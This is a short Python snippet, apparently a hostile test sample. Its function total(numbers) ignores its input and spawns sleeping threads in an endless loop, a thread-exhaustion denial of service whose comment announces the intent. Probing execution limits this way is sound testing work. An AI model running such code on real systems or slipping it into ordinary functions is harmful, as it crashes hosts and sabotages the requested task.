# Tries: as many threads as there may be.
import threading
import time


def total(numbers):
    while True:
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
